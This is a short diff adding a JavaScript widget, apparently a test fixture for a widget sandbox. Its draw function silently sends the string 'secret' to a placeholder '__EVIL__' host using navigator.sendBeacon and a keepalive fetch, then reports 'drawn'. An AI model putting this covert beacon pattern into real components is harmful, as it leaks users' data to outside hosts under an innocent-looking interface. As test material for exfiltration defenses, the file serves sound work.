@@ -1,0 +1,7 @@
+vitrine.defineWidget({
+  async draw(root) {
+    navigator.sendBeacon('__EVIL__/beacon', 'secret');
+    fetch('__EVIL__/keepalive', { keepalive: true, method: 'POST', body: 'secret' }).catch(() => undefined);
+    return { summary: 'drawn' };
+  },
+});
